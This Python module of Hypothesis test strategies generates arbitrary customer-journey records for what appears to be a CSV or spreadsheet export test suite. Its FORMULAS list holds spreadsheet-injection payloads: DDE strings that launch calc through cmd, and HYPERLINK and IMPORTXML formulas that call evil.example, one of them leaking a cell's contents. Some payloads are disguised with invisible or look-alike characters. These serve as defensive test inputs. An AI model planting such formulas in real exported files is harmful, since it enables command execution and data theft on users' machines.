"""Journeys with anything in every field that the model declares, for hypothesis: a new field is tried without a word here."""

from __future__ import annotations

import datetime as dt
from functools import cache
from types import NoneType, UnionType
from typing import Annotated, Any, Literal, Union, get_args, get_origin

import msgspec
from hypothesis import strategies as st

from jejak import vocab
from jejak.i18n import LANGUAGES, speech
from jejak.model import Journey, Level, Rating, Record, Value
from jejak.plain import fields

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|'/C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "'=1+1",
    "''=1+1",
    '"=1+1"',
    "“=1+1”",
    'a;=1+1;"',
    'a,=1+1,"',
    "a\t=1+1",
    "a\n=1+1",
    'a",=1+1,"',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "-2",
    "+62 812",
    "=",
)
"""What a spreadsheet would run, plain and disguised (OWASP, "CSV Injection", and its variations)."""

AWKWARD = (
    "'tis",
    "_x0041_",
    "_x005F_x0041_",
    "_xD800_",
    "\x00\x01\x1b[31m\x7f\x85\ufffe",
    "a\r\nb\rc\nd",
    "\\",
    "\\n",
    "C:\\new\\table",
    " ",
    "  two  spaces  ",
    "\n",
    "27",
    "2,0",
    "1.5",
    "2026-11-21",
    "3/4",
    "TRUE",
    "None",
    "“Toko”",
    "“",
    "”",
    "“”",
    "Rani [a]",
    "[a]",
    "Emotion: Rani",
    "Rani … 2",
    "{}",
    "#REF!",
    "😀" * 9,
    "sep=;",
    "\u202eevil",
)
LONG = ("x" * 32_000, "ab\x01" * 11_000, "😀" * 17_000, "=" + "y" * 70_000, "_x0041_" * 10_000)


def _labels() -> list[str]:
    lists = (vocab.STAGES, vocab.CHANNELS, vocab.BARRIERS, vocab.MOTIVES, vocab.GOALS, vocab.SCENARIOS)
    choices = [choice for each in lists for choice in each]
    spoken = [speech(lang)(choice.label) for lang in LANGUAGES for choice in choices]
    return [*spoken, *(choice.key for choice in choices), *(word.upper() for word in spoken[:9])]


ids = st.sampled_from(["a", "A", "b", "-2", "awareness", "purchase", "1", "007"]) | st.from_regex(
    r"(?!__proto__$)[A-Za-z0-9_-]{1,6}", fullmatch=True
)
written = st.text(st.characters(exclude_categories=("Cs",)), max_size=8)
texts = (
    st.just("")
    | written
    | st.sampled_from([*FORMULAS, *AWKWARD])
    | st.sampled_from(_labels())
    | st.builds("“{}”".format, st.sampled_from(_labels()))
    | st.builds("{} [{}]".format, written, ids)
    | ids
)
json_values = st.recursive(
    st.none() | st.booleans() | st.integers(-(2**53), 2**53) | st.floats(allow_nan=False, allow_infinity=False) | texts,
    lambda inner: st.lists(inner, max_size=2) | st.dictionaries(written, inner, max_size=2),
    max_leaves=4,
)
extras = st.just({}) | st.dictionaries(
    st.sampled_from(["newer", "=newer", "id_2"]), json_values, min_size=1, max_size=2
)


@cache
def anything(kind: Any) -> st.SearchStrategy[Any]:
    """Any value of a declared type."""
    origin, inner = get_origin(kind), get_args(kind)
    if origin is Annotated:
        return _limited(inner[0], inner[1])
    if origin in {Union, UnionType}:
        return st.one_of(*map(anything, inner))
    if origin is Literal:
        return st.sampled_from(inner)
    if origin is tuple:
        return _several(inner[0])
    if origin is dict:
        return st.dictionaries(texts | ids, anything(inner[1]), max_size=3)
    return _LEAVES[kind] if kind in _LEAVES else parts(kind)


_LEAVES: dict[Any, st.SearchStrategy[Any]] = {
    str: texts,
    int: st.integers(-9, 9),
    bool: st.booleans(),
    NoneType: st.none(),
    dt.date: st.dates() | st.dates(dt.date(1990, 1, 1), dt.date(2040, 1, 1)),
}


def _limited(kind: Any, meta: msgspec.Meta) -> st.SearchStrategy[Any]:
    if kind is int:
        return st.integers(meta.ge, meta.le)
    return ids if meta.pattern else texts.map(lambda text: text[: meta.max_length])


def _several(kind: Any) -> st.SearchStrategy[Any]:
    if isinstance(kind, type) and issubclass(kind, Record):
        return st.lists(anything(kind), max_size=3, unique_by=lambda record: record.id).map(tuple)
    return st.lists(texts if kind is str else anything(kind), max_size=3).map(tuple)


def parts(kind: type[Value]) -> st.SearchStrategy[Any]:
    given = {name: anything(declared) for name, declared in fields(kind).items() if name != "schema_version"}
    return st.builds(kind, extra=extras, **given)


def stretched(journey: Journey, text: str) -> Journey:
    """The journey with a long text in a field of its own, a record's field, a list and a portrait."""
    if not text:
        return journey
    replace = msgspec.structs.replace
    return replace(
        journey,
        scope=replace(journey.scope, scenario=text),
        touchpoints=tuple(
            replace(each, action=text, motives=(*each.motives, text)) for each in journey.touchpoints[:1]
        ),
        personas=tuple(replace(each, portrait=text[:40_000]) for each in journey.personas[:1]),
    )


@st.composite
def whole_journeys(draw: st.DrawFn) -> Journey:
    """Any journey; some with a text too long for a cell, and rated by its personas, not only by strangers."""
    journey = stretched(draw(parts(Journey)), draw(st.just("") | st.sampled_from(LONG)))
    people = [persona.id for persona in journey.personas]
    if not people:
        return journey
    levels = anything(Level)
    rated = st.dictionaries(st.sampled_from(people), st.builds(Rating, valence=levels, arousal=st.none() | levels))
    touchpoints = tuple(
        msgspec.structs.replace(each, ratings=each.ratings | draw(rated)) for each in journey.touchpoints
    )
    return msgspec.structs.replace(journey, touchpoints=touchpoints)
